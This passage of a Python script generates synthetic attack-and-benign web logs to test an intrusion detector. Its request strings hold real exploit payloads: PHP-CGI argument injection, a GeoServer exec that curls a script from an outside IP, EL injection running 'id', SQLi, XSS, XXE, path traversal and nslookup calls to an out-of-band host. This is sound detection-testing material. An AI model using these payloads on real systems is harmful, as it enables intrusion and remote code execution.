"""fresh-s12 attacks5: sixteen attack kinds as they are run today, not
covered by the earlier realistic sets, each inside ordinary traffic with the
benign look-alikes around it listed as never-banned (and every unlisted
client never-banned too).

Written before looking at the detector, the patterns or the default policy
(session 12, role "fresh"): nothing here is tuned to guardctl.
Run: python3 attacks.py [scenario-name ...]   (fixed seeds, byte-identical output)
"""
import datetime, os, sys, uuid, json, urllib.parse
from base import *

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.environ.get("OUT", os.path.join(HERE, "..", "attacks5"))
os.makedirs(OUT, exist_ok=True)
T0 = datetime.datetime(2026, 12, 2, 14, 0, 0)
SC = []


def scen(f):
    SC.append(f)
    return f


def hexid(r, n=40):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def q(s):
    return urllib.parse.quote(s, safe="")


def background(L, site, dur, n=30, office=True):
    """Ordinary traffic: browsers, crawlers, a monitor and an office NAT."""
    browsers(L, site, n, dur)
    crawlers(L, site, dur)
    monitor(L, dur)
    good = []
    if office:
        nat = L.ip("194.25.17")
        browsers(L, site, 25, dur, ips=[nat])
        good.append((nat, "office NAT, 25 people browsing"))
    return good


def wp_site(host="www.example-praxis.de"):
    posts = ["/%d/%02d/%s/" % (2026, m, s) for m, s in [(2, "neue-sprechzeiten"), (6, "grippeimpfung-2026"), (9, "praxisurlaub"), (11, "online-termine")]]
    pages = ["/"] + posts + ["/team/", "/leistungen/", "/kontakt/", "/impressum/"]
    return Site(host, pages, ["/wp-content/themes/kadence/assets/css/global.min.css?ver=1.2.9"], ["/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"],
                lambda p, r: ["/wp-content/uploads/2026/%02d/praxis-%d-768x512.jpg" % (r.randint(1, 11), r.randint(1, 40)) for _ in range(r.randint(1, 3))])


# ---------------------------------------------------------------------------
# 1. Credential stuffing against a mobile app's JSON login API.
# Models: a combo list run with an OpenBullet/SilverBullet config that
# replays the Android app's request (okhttp UA, no Referer, no assets) against
# /api/v3/auth/login from 6 datacenter proxies, each ~1 try every 2-4 s for
# 40 minutes; 401 for misses, 423 for locked accounts, ~0.5 % hits (200),
# each hit followed by the gift-card balance call the config captures.
# Around it: 120 real app users behind 2 carrier CGNATs, some mistyping.
@scen
def mobile_api_stuffing_okhttp():
    L = Log(T0, 601, "api")
    s = app_site("www.example-burger.de", ["/", "/menu", "/deals", "/app"])
    dur = 3000
    good = background(L, s, dur, 25)
    r = L.rnd
    bad = []
    ua_app = "okhttp/4.12.0"
    cgn = [L.ip(), L.ip()]
    for ip in cgn:
        good.append((ip, "carrier CGNAT with ~60 real app users, some typos"))
    for ip in cgn:
        for u in range(60):
            t = r.uniform(0, dur)
            for k in range(r.choice([1, 1, 1, 1, 2, 3])):
                L.add(t, ip, "POST", "/api/v3/auth/login", 401, 90, "-", ua_app)
                t += r.uniform(4, 20)
            L.add(t, ip, "POST", "/api/v3/auth/login", 200, 1400, "-", ua_app)
            for p in ["/api/v3/me", "/api/v3/offers?store=%d" % r.randint(100, 999), "/api/v3/loyalty/balance"]:
                L.add(t + r.uniform(0.2, 2), ip, "GET", p, 200, r.randint(300, 9000), "-", ua_app)
    for k in range(6):
        ip = L.ip(r.choice(["45.134.26", "193.32.162", "91.92.240"]))
        bad.append((ip, "OpenBullet config replaying the app login from a proxy"))
        t = r.uniform(100, 300)
        while t < dur - 100:
            st = 401 if r.random() < 0.93 else (423 if r.random() < 0.9 else 200)
            L.add(t, ip, "POST", "/api/v3/auth/login", st, 90 if st != 200 else 1400, "-", ua_app)
            if st == 200:
                L.add(t + 0.3, ip, "GET", "/api/v3/loyalty/balance", 200, 300, "-", ua_app)
                L.add(t + 0.5, ip, "GET", "/api/v3/giftcards", 200, 500, "-", ua_app)
            t += r.uniform(2, 4)
    return L, "Credential stuffing against a fast-food app's JSON login API: 6 proxy addresses replaying the okhttp request every 2-4 s for ~45 min (401/423, rare 200 then loyalty/gift-card reads); 120 real app users behind 2 CGNATs with typos", bad, good


# ---------------------------------------------------------------------------
# 2. PHP-CGI argument injection (CVE-2024-4577) mass exploitation.
# Models: since June 2024 botnets spray POST /php-cgi/php-cgi.exe?%ADd+
# allow_url_include... and /test.php, /index.php variants, then GETs for
# their dropper; each bot address sends 2-8 requests, most from different
# /16s, some also try /cgi-bin/php-cgi.exe and the 2012 CVE-2012-1823 form.
# Around it: a XAMPP-hosted intranet app with users, an old PHP app whose
# legitimate URLs contain ".php?" and "-d" style params.
@scen
def php_cgi_cve_2024_4577_botnet():
    L = Log(T0, 602, "php")
    s = app_site("portal.example-verwaltung.de", ["/index.php", "/index.php?seite=news", "/index.php?seite=formulare&id=12", "/suche.php?q=bauantrag", "/kontakt.php"])
    dur = 2400
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    variants = [
        "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3D0+%ADd+disable_functions%3D%22%22+%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "/test.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "/cgi-bin/php?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+suhosin.simulation%3don+-d+disable_functions%3d%22%22+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp://input+-n",
        "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    ]
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", "python-requests/2.31.0", "Go-http-client/1.1", "curl/8.4.0", "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36"]
    for k in range(9):
        ip = L.ip()
        bad.append((ip, "CVE-2024-4577 php-cgi bot"))
        ua = r.choice(uas)
        t = r.uniform(0, dur - 60)
        for v in r.sample(variants, r.randint(2, 6)):
            L.add(t, ip, "POST", v, r.choice([404, 404, 400, 200]), r.randint(150, 9000), "-", ua)
            t += r.uniform(0.2, 3)
        if r.random() < 0.5:
            L.add(t, ip, "GET", "/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello", 404, 150, "-", ua)
    return L, "CVE-2024-4577 PHP-CGI argument injection spray: 9 bot addresses each POSTing 2-6 soft-hyphen %AD-d allow_url_include variants (php-cgi.exe, test.php, index.php, cgi-bin) plus ThinkPHP on some; a PHP intranet app with ordinary .php?query users", bad, good


# ---------------------------------------------------------------------------
# 3. 2024-2025 edge/appliance CVE one-shots from separate addresses.
# Models: the KEV-driven scanning of the last two years where each address
# fires 1-4 requests for one product: TeamCity auth bypass (CVE-2024-27198),
# ScreenConnect SetupWizard (CVE-2024-1709), GeoServer OGC eval
# (CVE-2024-36401), CrushFTP (CVE-2025-31161 / 2024-4040), Cleo Harmony
# (CVE-2024-50623), SAP NetWeaver metadatauploader (CVE-2025-31324),
# FortiWeb path traversal (CVE-2025-64446), CyberPanel (CVE-2024-51567),
# Apache OFBiz (CVE-2024-38856), Craft CMS (CVE-2025-32432).
# Around it: the site's own ops team using TeamCity and GeoServer legitimately.
@scen
def cve_2024_2025_oneshots():
    L = Log(T0, 603, "edge")
    s = app_site("www.example-engineering.com", ["/", "/about", "/careers", "/maps", "/projects"])
    dur = 3600
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    shots = {
        "TeamCity CVE-2024-27198": [("GET", "/hax?jsp=/app/rest/users;.jsp", 404), ("POST", "/hax?jsp=/app/rest/users/id:1/tokens/%s;.jsp" % hexid(r, 8), 404), ("GET", "/hax?jsp=/app/rest/server;.jsp", 404)],
        "ScreenConnect CVE-2024-1709": [("GET", "/SetupWizard.aspx/", 404), ("POST", "/SetupWizard.aspx/%s" % hexid(r, 6), 404)],
        "GeoServer CVE-2024-36401": [("GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'curl%20http://45.61.136.12/x.sh%20-o%20/tmp/x.sh')", 400)],
        "CrushFTP CVE-2025-31161": [("GET", "/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=%s" % hexid(r, 4), 404), ("GET", "/WebInterface/login.html", 404)],
        "Cleo CVE-2024-50623": [("GET", "/Synchronization", 404), ("POST", "/Synchronization", 404)],
        "SAP CVE-2025-31324": [("GET", "/developmentserver/metadatauploader", 404), ("POST", "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", 404)],
        "FortiWeb CVE-2025-64446": [("POST", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", 400)],
        "CyberPanel CVE-2024-51567": [("OPTIONS", "/dataBases/upgrademysqlstatus", 404), ("PUT", "/dataBases/upgrademysqlstatus", 404)],
        "OFBiz CVE-2024-38856": [("POST", "/webtools/control/main/ProgramExport", 404), ("POST", "/webtools/control/forgotPassword/viewdatafile", 404)],
        "Craft CVE-2025-32432": [("POST", "/index.php?p=admin/actions/assets/generate-transform", 404), ("POST", "/actions/assets/generate-transform", 404)],
        "Ivanti EPMM CVE-2025-4427": [("GET", "/mifs/rs/api/v2/featureusage?format=" + q("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"), 404)],
    }
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", "python-requests/2.32.3", "Go-http-client/1.1"]
    for name, reqs in shots.items():
        for rep in range(r.choice([1, 2])):
            ip = L.ip()
            bad.append((ip, name))
            ua = r.choice(uas)
            t = r.uniform(0, dur - 30)
            if r.random() < 0.5:
                L.add(t - 1, ip, "GET", "/", 200, 20000, "-", ua)
            for m, p, st in reqs:
                L.add(t, ip, m, p, st, r.randint(150, 600), "-", ua)
                t += r.uniform(0.1, 1.5)
    # legitimate ops staff: real TeamCity REST and GeoServer WFS use
    ops = L.ip()
    good.append((ops, "ops engineer using TeamCity REST and GeoServer WFS"))
    for k in range(40):
        t = r.uniform(0, dur)
        L.add(t, ops, "GET", r.choice(["/app/rest/builds?locator=buildType:Deploy_Prod,count:10", "/app/rest/buildQueue", "/viewLog.html?buildId=%d" % r.randint(1000, 9999)]), 200, 4000, "https://ci.example-engineering.com/", CHROME)
        L.add(t + 1, ops, "GET", "/geoserver/wfs?service=WFS&version=2.0.0&request=GetFeature&typeNames=eng:sites&outputFormat=application/json&count=%d" % r.choice([50, 100, 500]), 200, 90000, "https://www.example-engineering.com/maps", CHROME)
    return L, "2024-2025 KEV one-shots: 11 products (TeamCity, ScreenConnect, GeoServer eval, CrushFTP, Cleo, SAP metadatauploader, FortiWeb, CyberPanel, OFBiz, Craft, Ivanti EPMM), each from 1-2 addresses firing 1-3 requests (some after a GET /); an ops engineer using TeamCity REST and GeoServer WFS legitimately", bad, good


# ---------------------------------------------------------------------------
# 4. Apache Tomcat partial PUT deserialization (CVE-2025-24813) chain.
# Models: the public PoC: PUT /<random>.session with Content-Range (409 or
# 201/204 when the default servlet is writable), then GET / with
# JSESSIONID=.<random> (cookie not logged: looks like GET / 500), repeated
# for several payload names; scanners confirm with PUT of a .txt and GET.
# Around it: a WebDAV-using team on the same Tomcat (PUT/GET of documents).
@scen
def tomcat_partial_put_chain():
    L = Log(T0, 604, "tomcat")
    s = app_site("apps.example-uni.edu", ["/", "/portal/", "/portal/courses", "/portal/grades"])
    dur = 2400
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    for k in range(3):
        ip = L.ip()
        bad.append((ip, "CVE-2025-24813 partial PUT exploit"))
        ua = r.choice(["python-requests/2.32.3", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"])
        t = r.uniform(100, dur - 200)
        for j in range(r.randint(3, 8)):
            name = hexid(r, 8)
            L.add(t, ip, "PUT", "/%s.session" % name, r.choice([409, 409, 204, 201]), 0, "-", ua)
            L.add(t + 0.5, ip, "GET", "/", r.choice([500, 500, 200]), 3000, "-", ua)
            t += r.uniform(1, 5)
        L.add(t, ip, "PUT", "/%s.txt" % hexid(r, 6), 201, 0, "-", ua)
        L.add(t + 0.3, ip, "GET", "/%s.txt" % hexid(r, 6), 404, 0, "-", ua)
    dav = L.ip()
    good.append((dav, "staff editing documents over WebDAV (PUT/GET/PROPFIND)"))
    for k in range(30):
        t = r.uniform(0, dur)
        d = "/webdav/lehrstuhl/%s.docx" % r.choice(["vorlesung", "uebung", "klausur", "protokoll"])
        L.add(t, dav, "PROPFIND", "/webdav/lehrstuhl/", 207, 5000, "-", "Microsoft-WebDAV-MiniRedir/10.0.22631")
        L.add(t + 0.5, dav, "GET", d, 200, 80000, "-", "Microsoft Office Word 2014")
        L.add(t + 60, dav, "PUT", d, 204, 0, "-", "Microsoft Office Word 2014")
    return L, "CVE-2025-24813 Tomcat partial-PUT chain: 3 addresses each PUT /<hex>.session (409/204/201) then GET / (500) 3-8 times and a .txt write check; staff legitimately PUTting documents over WebDAV", bad, good


# ---------------------------------------------------------------------------
# 5. Cache-busting HTTP flood from a botnet.
# Models: a DDoS-for-hire "HTTP-BYPASS" method: GET /?<random>=<random> from
# ~100 infected hosts/proxies, each ~2-4 requests/s for 2.5 minutes, rotating
# browser UAs per request, sometimes a fake Referer; the origin slows down,
# many 499/502/503. Around it: a newsletter spike of real readers arriving
# with utm parameters (distinct but regular query strings) and an office NAT.
@scen
def cache_busting_botnet_flood():
    L = Log(T0, 605, "news")
    s = blog_site("www.example-magazin.at")
    dur = 1800
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    f0, f1 = 700, 850
    for b in range(100):
        ip = L.ip()
        bad.append((ip, "cache-busting flood bot"))
        t = f0 + r.uniform(0, 10)
        while t < f1:
            k = hexid(r, r.randint(4, 8))
            st = r.choice([200, 200, 200, 499, 502, 503])
            L.add(t, ip, "GET", "/?%s=%s" % (k, hexid(r, r.randint(6, 16))), st, 30000 if st == 200 else 0, r.choice(["-", "https://www.google.com/", "https://www.example-magazin.at/"]), r.choice(UAS))
            t += r.expovariate(3.0)
    for k in range(120):
        ip = L.ip()
        if k < 10:
            good.append((ip, "newsletter reader with utm params"))
        ua = r.choice(UAS)
        t = r.uniform(600, 1200)
        c = set()
        page_view(L, s, t, ip, ua, "/why-we-moved-to-postgres-16/?utm_source=newsletter&utm_medium=email&utm_campaign=dec-2026&mc_cid=%s&mc_eid=%s" % (hexid(r, 10), hexid(r, 10)), "-", c)
        page_view(L, s, t + r.uniform(20, 120), ip, ua, r.choice(s.pages), s.url("/"), c)
    return L, "Cache-busting flood (GET /?<rand>=<rand>): 100 bot addresses at ~3 req/s each for 2.5 min with rotating browser UAs (all listed as must-ban), while 120 newsletter readers arrive with utm/mc_eid query strings; office NAT", bad, good


# ---------------------------------------------------------------------------
# 6. POST flood on the expensive search endpoint.
# Models: an attacker who found that /search is uncached and slow: 12
# addresses (rented VPS) POST /search with random dictionary terms at 15-25/s
# each for 4 minutes, with the site's own Referer and a browser UA, causing
# 504s. Around it: people searching normally and a power user using the
# search-as-you-type box (a request per keystroke).
@scen
def search_post_flood():
    L = Log(T0, 606, "shop")
    s = shop_site("www.example-baumarkt.de")
    dur = 1800
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    words = ["schraube", "bohrer", "farbe", "laminat", "fliese", "lampe", "kabel", "dübel", "säge", "leiter", "zement", "rasen", "grill", "holz", "tür", "fenster"]
    for b in range(12):
        ip = L.ip(r.choice(["5.161.44", "138.201.12", "65.108.70"]))
        bad.append((ip, "search POST flood"))
        ua = r.choice(UAS)
        t = 600 + r.uniform(0, 5)
        while t < 840:
            st = 200 if t < 640 else r.choice([200, 504, 504, 502])
            L.add(t, ip, "POST", "/search", st, 60000 if st == 200 else 500, s.url("/"), ua)
            t += r.expovariate(r.uniform(15, 25))
    for k in range(20):
        ip = L.ip()
        if k < 8:
            good.append((ip, "search-as-you-type shopper"))
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 120)
        for w in range(r.randint(2, 5)):
            word = r.choice(words)
            for i in range(2, len(word) + 1):
                L.add(t, ip, "GET", "/search/ajax/suggest/?q=%s" % q(word[:i]), 200, 900, s.url("/"), ua)
                t += r.uniform(0.12, 0.35)
            L.add(t + 0.5, ip, "POST", "/search", 200, 60000, s.url("/"), ua)
            t += r.uniform(10, 60)
    return L, "POST /search flood: 12 VPS addresses at 15-25 req/s each for 4 minutes with the site's Referer and browser UAs (502/504 later); 20 shoppers using search-as-you-type and submitting searches; office NAT", bad, good


# ---------------------------------------------------------------------------
# 7. HTTP/2 rapid-reset-style flood as nginx logs it.
# Models: CVE-2023-44487 style: the client opens streams and cancels them at
# once; nginx logs each as status 499 with 0 bytes, thousands per second from
# a handful of addresses (cloud VMs), UA of the tool (often a fixed Chrome
# UA). Around it: mobile users on flaky connections with occasional 499s and
# a monitoring check.
@scen
def rapid_reset_499_flood():
    L = Log(T0, 607, "web")
    s = blog_site("www.example-hosting.net")
    dur = 1200
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36"
    for b in range(4):
        ip = L.ip(r.choice(["34.125.90", "147.182.140", "159.223.18"]))
        bad.append((ip, "rapid-reset 499 flood"))
        t = 500 + r.uniform(0, 3)
        while t < 560:
            L.add(t, ip, "GET", "/", 499, 0, "-", ua)
            t += r.expovariate(60)
    for k in range(25):
        ip = L.ip()
        if k < 6:
            good.append((ip, "mobile reader on a flaky connection (some 499)"))
        ua2 = r.choice(UAS[4:6])
        t = r.uniform(0, dur)
        for j in range(r.randint(3, 12)):
            L.add(t, ip, "GET", r.choice(s.pages), r.choice([200, 200, 200, 499]), 20000, "-", ua2)
            t += r.uniform(5, 60)
    return L, "HTTP/2 rapid-reset-style flood: 4 cloud VMs each logging ~60 GET / per second as 499/0 bytes for one minute (~14,000 lines); 25 mobile readers with occasional 499s; office NAT", bad, good


# ---------------------------------------------------------------------------
# 8. Bandwidth exhaustion through ranged downloads of a large file.
# Models: "download amplification": 5 addresses repeatedly fetch the 4.7 GB
# ISO with random Range headers (206), dozens of concurrent connections,
# each range 50-200 MB, never finishing a download; tools like this exist
# for exhausting metered bandwidth. Around it: real users with download
# managers (aria2, 16 segments, resumes) and apt/zsync-style clients.
@scen
def range_download_bandwidth_flood():
    L = Log(T0, 608, "mirror")
    s = Site("download.example-linux.org", ["/", "/releases/", "/releases/24.10/", "/docs/"], ["/css/site.css"], ["/js/site.js"], lambda p, r: [])
    dur = 2400
    good = background(L, s, dur, 20)
    r = L.rnd
    bad = []
    iso = "/releases/24.10/example-24.10-desktop-amd64.iso"
    for b in range(5):
        ip = L.ip()
        bad.append((ip, "ranged-download bandwidth exhaustion"))
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Wget/1.21.4"])
        t = r.uniform(200, 400)
        while t < 2000:
            L.add(t, ip, "GET", iso, 206, r.randint(50, 200) * 1000000, "-", ua)
            t += r.expovariate(1.5)
    for k in range(30):
        ip = L.ip()
        if k < 10:
            good.append((ip, "download manager, 8-16 segments"))
        ua = r.choice(["aria2/1.37.0", "Wget/1.21.4", "curl/8.5.0", CHROME, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"])
        t = r.uniform(0, dur - 300)
        segs = 16 if ua.startswith("aria2") else (1 if ua.startswith("curl") else r.choice([1, 4, 8]))
        for j in range(segs):
            L.add(t + j * 0.05, ip, "GET", iso, 206 if segs > 1 else 200, 4700000000 // segs, "-", ua)
        if r.random() < 0.3:
            L.add(t + r.uniform(100, 400), ip, "GET", iso, 206, 900000000, "-", ua)
        L.add(t + r.uniform(200, 900), ip, "GET", iso.replace(".iso", ".iso.sha256"), 200, 110, "-", ua)
    return L, "Bandwidth exhaustion: 5 addresses fetching random 50-200 MB ranges of a 4.7 GB ISO (206) ~1.5 times a second for 30 minutes (~2,700 ranges each, ~340 GB); 30 real downloaders incl. aria2 with 16 segments and resumes; office NAT", bad, good


# ---------------------------------------------------------------------------
# 9. Slow distributed WordPress login guessing.
# Models: a botnet (Brutus-style) spreading one password list over 300
# addresses: each address does POST /wp-login.php (no GET first, or a GET of
# the form the first time), answered 200 (form re-displayed), about once
# every 6-10 minutes for 2.5 hours, i.e. ~15-25 tries per address.
# Around it: the practice staff logging in (some failures), a password
# manager autofill after a password change.
@scen
def wp_login_botnet_slow():
    L = Log(T0, 609, "wp")
    s = wp_site()
    dur = 9000
    good = background(L, s, dur, 40)
    r = L.rnd
    bad = []
    for b in range(300):
        ip = L.ip()
        bad.append((ip, "slow distributed wp-login guessing (~1 try / 6-10 min)"))
        ua = r.choice(UAS + ["Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"])
        t = r.uniform(0, 600)
        if r.random() < 0.3:
            L.add(t - 2, ip, "GET", "/wp-login.php", 200, 7200, "-", ua)
        while t < dur:
            L.add(t, ip, "POST", "/wp-login.php", 200, 7400, s.url("/wp-login.php"), ua)
            t += r.uniform(360, 600)
    for k in range(6):
        ip = L.ip()
        good.append((ip, "practice staff logging in to WordPress"))
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 600)
        L.add(t, ip, "GET", "/wp-login.php", 200, 7200, "-", ua)
        for f in range(r.choice([0, 0, 1, 2, 4])):
            t += r.uniform(5, 20)
            L.add(t, ip, "POST", "/wp-login.php", 200, 7400, s.url("/wp-login.php"), ua)
        t += r.uniform(5, 20)
        L.add(t, ip, "POST", "/wp-login.php", 302, 0, s.url("/wp-login.php"), ua)
        L.add(t + 0.5, ip, "GET", "/wp-admin/", 200, 50000, s.url("/wp-login.php"), ua)
        for j in range(r.randint(3, 20)):
            L.add(t + 5 + j * 30, ip, "POST", "/wp-admin/admin-ajax.php", 200, 100, s.url("/wp-admin/"), ua)
    return L, "Slow distributed wp-login guessing: 300 bot addresses each POSTing /wp-login.php (200 = failed) every 6-10 min for 2.5 h (~15-25 tries each, all listed as must-ban); 6 staff logging in with up to 4 failures; office NAT", bad, good


# ---------------------------------------------------------------------------
# 10. Gift-card balance brute force.
# Models: fraudsters enumerating gift-card numbers+PINs on the balance-check
# form: POST /giftcard/balance with the site's Referer and session cookie, a
# browser UA, ~1 try per second per address from 3 residential proxies,
# answered 200 with "invalid" (the page shows the error) or 429 when the
# form's limiter kicks in briefly, rare 200 hits. Around it: customers
# checking their 1-2 cards, one mistyping a few times.
@scen
def giftcard_balance_brute():
    L = Log(T0, 610, "shop")
    s = shop_site("www.example-buchhandlung.de")
    dur = 2400
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    for b in range(3):
        ip = L.ip(r.choice(["73.22", "98.207", "24.130"]) + "." + str(r.randint(0, 254)))
        bad.append((ip, "gift-card balance enumeration via residential proxy"))
        ua = r.choice(UAS)
        t = r.uniform(100, 300)
        page_view(L, s, t, ip, ua, "/giftcard/balance", s.url("/"), set())
        t += 5
        while t < dur - 200:
            st = 200 if r.random() > 0.05 else 429
            L.add(t, ip, "POST", "/giftcard/balance", st, 8800 if st == 200 else 300, s.url("/giftcard/balance"), ua)
            t += r.uniform(0.7, 1.6) if st == 200 else 30
    for k in range(15):
        ip = L.ip()
        if k < 6:
            good.append((ip, "customer checking a gift card"))
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 200)
        page_view(L, s, t, ip, ua, "/giftcard/balance", s.url("/"), set())
        for j in range(r.choice([1, 1, 2, 3, 5])):
            t += r.uniform(8, 40)
            L.add(t, ip, "POST", "/giftcard/balance", 200, 8800, s.url("/giftcard/balance"), ua)
    return L, "Gift-card number/PIN enumeration: 3 residential-proxy addresses POSTing /giftcard/balance about once a second for ~35 min with browser UA and Referer (errors answered 200, brief 429s); 15 customers checking 1-5 times; office NAT", bad, good


# ---------------------------------------------------------------------------
# 11. Nikto with its default user agent.
# Models: nikto -h host (2.5.0): ~6,500 checks in ~6 minutes, UA
# "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:NNNNNN)", many 404s,
# odd methods (TRACE, TRACK, DEBUG, PROPFIND), /cgi-bin/ and old CGI names.
# Around it: an SEO crawler (Screaming Frog) with many 404s from old links.
@scen
def nikto_default_scan():
    L = Log(T0, 611, "web")
    s = blog_site("www.example-kanzlei.de")
    dur = 1800
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    ip = L.ip()
    bad.append((ip, "nikto 2.5.0 default scan"))
    paths = ["/cgi-bin/test-cgi", "/cgi-bin/printenv", "/cgi-bin/php.cgi", "/admin/", "/phpinfo.php", "/server-status", "/.htpasswd", "/icons/README", "/manual/", "/scripts/", "/_vti_bin/", "/iisadmin/", "/examples/servlets/index.html", "/CFIDE/administrator/", "/cgi-bin/awstats.pl", "/phpmyadmin/", "/test/", "/backup/", "/webdav/", "/config.php.bak", "/db.sql", "/install.php", "/wp-config.php~", "/.DS_Store", "/crossdomain.xml", "/clientaccesspolicy.xml", "/README.md", "/web.config", "/login.jsp", "/jmx-console/"]
    t = 400
    for i in range(6500):
        m = "GET"
        if i < 12:
            m = ["OPTIONS", "TRACE", "TRACK", "DEBUG", "PROPFIND", "PUT", "HEAD", "SEARCH", "PATCH", "OPTIONS", "GET", "GET"][i]
        p = r.choice(paths) if r.random() < 0.3 else "/%s%s" % (hexid(r, 8) if r.random() < 0.2 else r.choice(["cgi-bin/", "scripts/", "admin/", "", "docs/", "examples/"]), r.choice(["index.cgi", "formmail.pl", "%s.php" % hexid(r, 6), "login.asp", "shop.cgi", "test.php?a=%3Cscript%3Ealert(1)%3C/script%3E", "view.php?file=../../../../etc/passwd", "?PHPSESSID=%3Cscript%3E", "admin.asp", "search.php?q=%27"]))
        L.add(t, ip, m, p, r.choice([404] * 12 + [403, 400, 405, 200]), 200, "-", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)" % (i + 1))
        t += r.expovariate(18)
    seo = L.ip()
    good.append((seo, "Screaming Frog SEO audit (old links, 404s)"))
    t = 100
    ua = "Screaming Frog SEO Spider/21.4"
    for i in range(900):
        L.add(t, seo, "GET", r.choice(s.pages) if r.random() < 0.7 else "/%d/%02d/%s/" % (r.randint(2012, 2020), r.randint(1, 12), hexid(r, 8)), r.choice([200, 200, 200, 301, 404]), 20000, "-", ua)
        t += r.expovariate(5)
    return L, "Nikto 2.5.0 with its default UA: ~6,500 checks in ~6 minutes (odd methods, CGI, admin, XSS/traversal probes), mostly 404; a Screaming Frog SEO crawl with 404s for old links; office NAT", bad, good


# ---------------------------------------------------------------------------
# 12. Burp Suite active scan of one form, browser UA.
# Models: a tester/attacker running Burp's active scanner through their
# browser's session against the contact form and product search: each
# parameter receives ~250 payloads (SQLi, XSS, SSTI {{7*7}}, OS command,
# Collaborator OAST hosts *.oastify.com), ~10 req/s, Chrome UA and Referer.
# Around it: real users whose search terms contain quotes and brackets.
@scen
def burp_active_scan_browser_ua():
    L = Log(T0, 612, "shop")
    s = shop_site("www.example-weinhandel.de")
    dur = 1800
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    ip = L.ip()
    bad.append((ip, "Burp active scan via browser session"))
    col = "%s.oastify.com" % hexid(r, 30)
    payloads = ["'", "''", "\"", "1'or'1'='1", "1 AND SLEEP(20)--", "'||pg_sleep(20)--", "<script>alert(1)</script>", "\"><svg/onload=alert(1)>", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "|nslookup -q=cname %s.%s&" % (hexid(r, 6), col), "`nslookup %s`" % col, ";sleep 20;", "../../../../../../etc/passwd", "....//....//etc/passwd", "http://%s/" % col, "%0d%0aSet-Cookie:x=1", "1;waitfor delay'0:0:20'--", "<esi:include src=\"http://%s/\">" % col, "{{constructor.constructor('return process')()}}", "x'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % a SYSTEM \"http://" + col + "/\">%a;]>'),'/l') from dual)||'"]
    ua = CHROME
    t = 300
    page_view(L, s, t, ip, ua, "/", "-", set())
    for param_path in ["/catalogsearch/result/?q=%s", "/catalogsearch/result/?q=wein&product_list_order=%s", "/rotwein.html?herkunft=%s", "/contact/index/post/?name=%s"]:
        for i in range(250):
            pl = r.choice(payloads) + ("" if r.random() < 0.5 else hexid(r, 4))
            p = param_path % q(pl)
            m = "POST" if "contact" in p else "GET"
            L.add(t, ip, m, p, r.choice([200, 200, 200, 500, 400, 302]), r.randint(300, 60000), s.url("/"), ua)
            t += r.expovariate(10)
    for k in range(20):
        ip2 = L.ip()
        if k < 8:
            good.append((ip2, "shopper searching with quotes/brackets"))
        ua2 = r.choice(UAS)
        t = r.uniform(0, dur)
